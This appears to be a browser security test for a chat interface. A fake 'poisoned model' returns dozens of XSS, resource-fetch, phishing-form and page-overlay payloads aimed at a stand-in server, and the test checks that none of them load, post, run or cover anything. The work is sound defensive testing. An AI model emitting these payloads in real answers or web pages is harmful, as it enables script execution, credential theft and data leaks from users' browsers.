"""A poisoned model: what its answers may make Chromium do, with and without Markdown. The network is watched."""

from __future__ import annotations

import contextlib
import shutil
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import REPOSITORY, inference_of
from served import served

sys.path.append(str(REPOSITORY / ".cache" / "playwright"))  # at the end: what a workspace has comes first
from playwright.sync_api import Page, expect, sync_playwright

CHROMIUM = shutil.which("chromium")
if not CHROMIUM:
    pytest.skip("chromium is not on the PATH", allow_module_level=True)

# {evil} is another server's address; the paths of the own server stand for what an answer may want to fetch or post.
POISONED = [
    "![a]({evil}/1.png)",
    "![a](/gradio_api/file={evil}/2.png)",
    "![a](/gradio_api/proxy={evil}/3.png)",
    "![a](/health?secret)",
    "[![a]({evil}/4.png)]({evil}/4)",
    "![a][ref]\n\n[ref]: {evil}/5.png",
    "<img src={evil}/6.png>",
    "<img srcset='{evil}/7.png 1x'>",
    "<img src=x onerror=\"document.title='ran'\">",
    "<picture><source srcset={evil}/8.png><img></picture>",
    "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22top.document.title=1%22/>'>",
    "<video src={evil}/9.mp4 autoplay poster={evil}/9.png></video>",
    "<audio src={evil}/10.mp3 autoplay></audio>",
    "<video><source src={evil}/11.mp4><track src={evil}/11.vtt default></video>",
    "<iframe src={evil}/12></iframe>",
    "<iframe srcdoc=\"<script>top.document.title='ran'</script><img src={evil}/13>\"></iframe>",
    "<object data={evil}/14></object>",
    "<embed src={evil}/15>",
    "<frameset><frame src={evil}/16></frameset>",
    "<script>document.title='ran'</script>",
    "<script src={evil}/17.js></script>",
    "<script type=module>import '{evil}/18.js'</script>",
    "<noscript><p title=\"</noscript><img src={evil}/19 onerror=document.title='ran'>\"></noscript>",
    "<link rel=stylesheet href={evil}/20.css>",
    "<link rel=prefetch href={evil}/21>",
    "<link rel=preload as=image href={evil}/22.png>",
    "<link rel=dns-prefetch href={evil}><link rel=preconnect href={evil}>",
    "<link rel=icon href={evil}/23.ico>",
    "<link rel=manifest href={evil}/24.json>",
    "<meta http-equiv=refresh content='0;url={evil}/25'>",
    "<base href={evil}/>",
    "<style>@import url({evil}/26.css); body {{ background: url({evil}/27.png) }}</style>",
    "<style>input[value^=a] {{ background: url({evil}/28.png) }}</style>",
    "<style>@font-face {{ font-family: f; src: url({evil}/f) }} * {{ font-family: f }}</style>",
    "<div style='background: url({evil}/29.png)'>a</div>",
    "<div style='list-style-image: url({evil}/30.png); display: list-item; content: url({evil}/31.png)'>a</div>",
    "<div style=\"background-image: image-set('{evil}/32.png' 1x); cursor: url({evil}/33.cur), auto\">a</div>",
    "<table background={evil}/34.png><tr><td background={evil}/35.png>a</td></tr></table>",
    "<svg><image href={evil}/36.png /></svg>",
    "<svg><use href={evil}/37.svg#a /></svg>",
    "<svg onload=\"document.title='ran'\"><script>document.title='ran'</script></svg>",
    "<svg><animate onbegin=\"document.title='ran'\" attributeName=x dur=1s></animate></svg>",
    "<svg><foreignObject><img src={evil}/38.png><iframe src={evil}/39></iframe></foreignObject></svg>",
    "<svg><style>@import '{evil}/40.css';</style></svg>",
    "<svg><rect fill='url({evil}/41.svg#a)' filter='url({evil}/42.svg#a)'/></svg>",
    "<svg><a xlink:href=\"javascript:document.title='ran'\"><text y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src={evil}/43 onerror=document.title=1></style></mglyph></table></math>",
    "<math href=\"javascript:document.title='ran'\"><mtext>click</mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src={evil}/44></annotation-xml></math>",
    "$$\\includegraphics{{{evil}/45.png}} \\href{{javascript:document.title='ran'}}{{click}}$$",
    "$$\\htmlStyle{{background: url({evil}/46.png)}}{{a}}$$",
    '```mermaid\ngraph TD; A["<img src={evil}/47 onerror=document.title=\'ran\'>"]; click A href "{evil}/48"\n```',
    "[click](javascript:document.title='ran')",
    "[click](data:text/html,<script>document.title='ran'</script>)",
    "<a href='java&#10;script:document.title=1'>click</a>",
    "<form action={evil}/49 style='position: fixed; inset: 0; z-index: 9999; background: white'>"
    "<input name=key type=password><button>send</button></form>",
    "<form action={evil}/50 method=post><input name=key type=password><button>send</button></form>",
    "<form action=/login method=post><input name=password type=password><button>send</button></form>",
    "<form><input name=key type=password><button formaction={evil}/51>send</button></form>",
    "<form id=f action={evil}/52></form><input form=f name=key type=password><button form=f>send</button>",
    "<form action=''><input name=key type=password><button type=image src={evil}/53>send</button>"
    "<input type=image src={evil}/54.png></form>",
    "<details open ontoggle=\"document.title='ran'\"><summary>a</summary></details>",
    "<input autofocus onfocus=\"document.title='ran'\"><marquee onstart=\"document.title='ran'\">a</marquee>",
    "<body onload=\"document.title='ran'\"><div onmouseover=\"document.title='ran'\" style='position: fixed'>a</div>",
    "<div style='position: fixed; inset: 0; z-index: 9999; background: red' id=over>over the page</div>",
    "<template><img src={evil}/55></template><x-y onclick=\"document.title='ran'\">click</x-y>",
    "<portal src={evil}/56></portal><fencedframe src={evil}/57></fencedframe>",
]
GROUPS = 11  # answers, each with several of them


class Poison:
    """Answers a number with the poisons of that group."""

    description, context, notices, switchable = "poison", 16000, [], False  # type: ignore[var-annotated]

    def __init__(self, evil: str) -> None:
        self.evil = evil

    def render(self, messages: list[dict[str, str]]) -> str:
        return "\0".join(turn["content"] for turn in messages)

    def encode(self, text: str) -> list[int]:
        """Return tokens of 16 bytes, so that the page is not drawn anew for each byte."""
        data = text.encode()
        return [int.from_bytes(b"\1" + data[start : start + 16]) for start in range(0, len(data), 16)]

    def decode(self, tokens: list[int]) -> str:
        return b"".join(token.to_bytes(17).lstrip(b"\0")[1:] for token in tokens).decode(errors="replace")

    def generate(self, prompt: list[int], generation: Any) -> Iterator[int]:
        yield from self.encode(poisons(int(self.decode(prompt).rpartition("\0")[2]), self.evil))


def poisons(group: int, evil: str) -> str:
    return "\n\n".join(poison.format(evil=evil) for poison in POISONED[group::GROUPS])


@pytest.fixture(scope="module")
def evil() -> Iterator[tuple[str, list[str]]]:
    """Another server: its address, and the connections to it."""
    met: list[str] = []
    with contextlib.closing(socket.create_server(("127.0.0.1", 0))) as listener:

        def accept() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = listener.accept()
                    met.append(connection.recv(4096).decode("latin-1").partition("\r\n")[0])
                    connection.close()

        threading.Thread(target=accept, daemon=True).start()
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", met


@pytest.fixture(scope="module")
def address(workspace: Path, evil: tuple[str, list[str]]) -> Iterator[str]:
    with inference_of(workspace):
        from engine import Engine, Source

        engine = Engine(Source("models/demo", None, None, "lora", "float32", ""), Poison(evil[0]))
        with served(lambda: engine) as (address, _):
            yield address


@pytest.fixture(scope="module")
def page(address: str) -> Iterator[Page]:
    expect.set_options(timeout=30_000)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = chromium.new_page()
        page.goto(address)
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("number input for Longest answer").fill("4000")
        page.get_by_label("number input for Longest answer").blur()
        yield page
        chromium.close()


# Puts a key into each field that an answer has drawn, sends each form, and clicks what calls itself clickable.
TRY = """() => {
  for (const field of document.querySelectorAll('.bot.message input')) field.value = 'the-secret-key'
  for (const form of document.querySelectorAll('.bot.message form')) form.requestSubmit()
  for (const e of document.querySelectorAll('.bot.message button:not([aria-label])')) e.click()
  for (const e of document.querySelectorAll('.bot.message *'))
    if (e.textContent.trim() == 'click') e.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))
  for (const e of document.querySelectorAll('.bot.message *'))
    e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))
}"""
# What is on top of the controls of the page, which nothing in an answer may cover.
COVERED = """() => [...document.querySelectorAll('textarea, button')]
  .filter(e => e.checkVisibility() && !e.closest('[role=log]'))
  .filter(e => { const {left, top, width, height} = e.getBoundingClientRect()
    const above = document.elementFromPoint(left + width / 2, top + height / 2)
    return above && above.closest('[role=log]') }).map(e => e.outerHTML.slice(0, 99))"""


def test_no_answer_loads_posts_runs_or_covers_anything(page: Page, address: str, evil: tuple[str, list[str]]) -> None:
    there, met = evil
    asked: list[str] = []
    used = (
        "gradio_api/queue/",
        "gradio_api/run/predict",
        "gradio_api/cancel",
        "gradio_api/reset",
        "assets/",
        "static/",
    )
    ours = (*(address + path for path in used), "data:", "blob:")

    def watch(request: Any) -> None:
        """Note a request, unless the browser has stopped it; the other server notes what reaches it."""
        if not request.url.startswith(ours) and not request.failure:
            asked.append(f"{request.method} {request.url}")

    page.on("requestfinished", watch)
    page.on("requestfailed", watch)
    page.context.on("page", lambda new: asked.append(f"a window with {new.url}"))
    title, url = page.title(), page.url
    box, send = page.get_by_label("Your message"), page.get_by_role("button", name="Send", exact=True)
    for group in range(GROUPS):
        box.fill(str(group))
        box.press("Enter")
        expect(box).to_have_value("")
        expect(send).to_be_enabled()
    answers = page.locator(".bot.message")
    assert answers.all_inner_texts() == [poisons(group, there) for group in range(GROUPS)]
    for markdown in (False, True):
        page.get_by_label("Format answers as Markdown").set_checked(markdown)
        if markdown:
            expect(answers.locator("form")).not_to_have_count(0)  # so there is something to try
        page.evaluate(TRY)
        page.wait_for_timeout(500)
        assert (asked, met) == ([], [])
        # page.title() would be empty: playwright waits for the navigation that the policy has stopped
        assert page.evaluate("[document.title, location.href]") == [title, url]
        assert page.evaluate(COVERED) == []
